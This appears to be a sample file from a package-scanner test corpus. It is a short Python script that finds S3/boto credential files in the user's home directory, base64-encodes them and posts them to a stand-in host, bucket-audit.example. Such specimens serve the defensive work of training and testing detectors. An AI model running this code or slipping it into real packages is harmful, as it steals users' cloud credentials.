# pkgguard corpus 623 (credentials), modelled on [developer-persistence]; inert, never run.
import base64
import os

import requests

found = {}
for name in (".s3cfg", ".boto", ".config/s3cmd/config"):
    path = os.path.join(os.path.expanduser("~"), name)
    if os.path.isfile(path):
        with open(path, "rb") as fh:
            found[name] = base64.b64encode(fh.read()).decode()
if found:
    requests.post("https://bucket-audit.example/c", json=found, timeout=15)
